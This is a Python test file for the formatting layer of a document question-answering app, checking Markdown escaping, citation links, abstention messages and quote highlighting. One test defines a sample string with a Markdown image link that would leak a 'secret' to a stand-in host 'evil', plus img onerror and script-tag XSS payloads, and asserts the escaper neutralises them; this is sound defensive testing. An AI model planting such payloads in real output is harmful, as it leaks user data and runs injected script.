"""ui.format: answers become safe Markdown with linked markers; quotes are highlighted at their offsets."""

from __future__ import annotations

import re

from qa.types import Answer, Chunk, Citation, Hit
from ui.format import (
    abstention_markdown,
    answer_markdown,
    escape_markdown,
    highlight,
    link_markers,
    passage_for,
    sources_html,
)

DOC = "First sentence here. The cited one says 42 and names Rome. Last sentence follows."
Q_START = DOC.index("The cited")
Q_END = DOC.index("Last") - 1


def _chunk(start: int = 0, end: int = len(DOC)) -> Chunk:
    return Chunk("c0", "d1", "/docs/a.txt", "Doc A", 0, start, end, DOC[start:end], ())


def _answer(abstained: bool = False, text: str = "It is 42 [1].", translation: str | None = None) -> Answer:
    cite = Citation(1, "d1", "/docs/a.txt", "Doc A", DOC[Q_START:Q_END], Q_START, Q_END, translation)
    cites = () if abstained else (cite,)
    return Answer("What number?", text, abstained, "en", cites, (Hit(_chunk(), 0.9, 1),))


def test_escape_markdown_leaves_no_live_markup() -> None:
    evil = "![x](http://evil/leak?q=secret) <img src=x onerror=alert(1)> <script>alert(1)</script> **b** www.evil.com"
    out = escape_markdown(evil)
    assert "<" not in out and ">" not in out
    assert "](" not in out and "![" not in out and "**" not in out
    assert "http:" not in out and "www." not in out
    # unescaping the backslashes gives back the text with HTML entities only
    assert re.sub(r"\\(.)", r"\1", out).replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&") == evil


def test_escape_markdown_keeps_entities_whole() -> None:
    assert escape_markdown("a < b & c") == "a &lt; b &amp; c"


def test_link_markers_links_only_known_citations() -> None:
    out = link_markers("Rome [1] and Paris [7].", turn=3, valid={1})
    assert "[\\[1\\]](#fonte-cite-3-1)" in out
    assert "#fonte-cite-3-7" not in out and "\\[7\\]" in out


def test_answer_markdown_lists_sources_with_links() -> None:
    md = answer_markdown(_answer(), 0)
    assert md.count("(#fonte-cite-0-1)") == 2  # the marker in the text and the source line
    assert "Doc A" in md and "a\\.txt" in md


def test_abstention_looks_different_and_lists_closest_passages() -> None:
    a = _answer(abstained=True, text="The documents do not say.")
    md = answer_markdown(a, 0)
    assert md == abstention_markdown(a)
    assert md.startswith("**⚠ Not found in your documents**")
    assert "> The documents do not say\\." in md and "Doc A" in md
    assert "#fonte-cite-" not in md


def test_abstention_label_follows_question_language() -> None:
    a = Answer("Chi?", "I documenti non lo dicono.", True, "it")
    assert "Non trovato nei documenti" in abstention_markdown(a)


def test_highlight_marks_exactly_the_offsets() -> None:
    out = highlight(DOC[5:], 5, Q_START, Q_END)
    assert f"<mark class='fonte-quote'>{DOC[Q_START:Q_END]}</mark>" in out
    assert out.startswith(DOC[5:Q_START])


def test_highlight_escapes_document_html() -> None:
    text = "<b>bold</b> <script>x()</script>"
    out = highlight(text, 0, 0, 11)
    assert "<b>" not in out and "<script>" not in out and "&lt;script&gt;" in out


def test_passage_for_prefers_the_chunk_holding_the_quote() -> None:
    a = _answer()
    c = a.citations[0]
    assert passage_for(c, a.passages, None) == (DOC, 0)
    other = (Hit(_chunk(0, 20), 0.9, 1),)  # does not hold the quote
    passage, start = passage_for(c, other, lambda _d: DOC)
    assert passage[c.start - start : c.end - start] == c.quote
    assert passage_for(c, (), None) == (c.quote, c.start)


def test_passage_window_cuts_at_spaces() -> None:
    long_doc = ("word " * 400) + DOC + (" word" * 400)
    s = long_doc.index("The cited")
    e = s + (Q_END - Q_START)
    c = Citation(1, "d1", "/docs/a.txt", "Doc A", long_doc[s:e], s, e)
    passage, start = passage_for(c, (), lambda _d: long_doc)
    assert passage[c.start - start : c.end - start] == c.quote
    assert passage.startswith("word ") and passage.endswith(" word") and 500 < len(passage) < 1300


def test_sources_html_highlights_and_shows_translation() -> None:
    a = _answer(translation="La frase citata <i>")
    out = sources_html(a, 2, active=1)
    assert "id='fonte-cite-2-1'" in out and "fonte-active" in out
    assert f"<mark class='fonte-quote'>{DOC[Q_START:Q_END]}</mark>" in out
    assert "La frase citata &lt;i&gt;" in out
    assert "characters" not in out and "/docs" not in out and "a.txt" in out  # no offsets, no server folder


def test_sources_html_labels_the_translation_in_the_answers_language() -> None:
    cite = Citation(1, "d1", "/docs/a.txt", "Doc A", DOC[Q_START:Q_END], Q_START, Q_END, "Die zitierte Stelle")
    answer = Answer("Welche Zahl?", "42 [1].", False, "de", (cite,), (Hit(_chunk(), 0.9, 1),))
    assert ">Übersetzung</span>Die zitierte Stelle" in sources_html(answer, 0)


def test_sources_html_for_abstention_shows_passages() -> None:
    out = sources_html(_answer(abstained=True, text="No."), 0)
    assert "Not found in your documents" in out and "First sentence here" in out
